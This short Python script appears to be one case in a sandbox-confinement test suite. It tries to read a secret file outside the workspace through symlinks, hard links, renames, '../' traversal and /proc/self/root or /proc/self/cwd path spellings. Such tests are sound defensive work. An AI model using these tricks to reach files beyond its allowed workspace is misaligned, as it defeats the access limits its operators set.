# title: bring a file outside into the workspace by a link, a name or a mount
# kind: read
from attack import *
secret = get("secret")
folder = os.path.dirname(secret)
for spelling in secret, "../../../../../../../../.." + secret, f"/proc/self/root{secret}", f"/proc/self/cwd/..{secret}", f"/./{secret}", f"//{secret}":
    attempt(os.symlink, spelling, "link")
    show(read("link"))
    attempt(os.unlink, "link")
    show(read(spelling))
    for make in os.link, os.rename:
        attempt(make, spelling, "name")
        show(read("name"))
        attempt(os.unlink, "name")
attempt(os.symlink, folder, "folder")
show(read("folder/secret"))
show(attempt(os.listdir, "folder") or "")
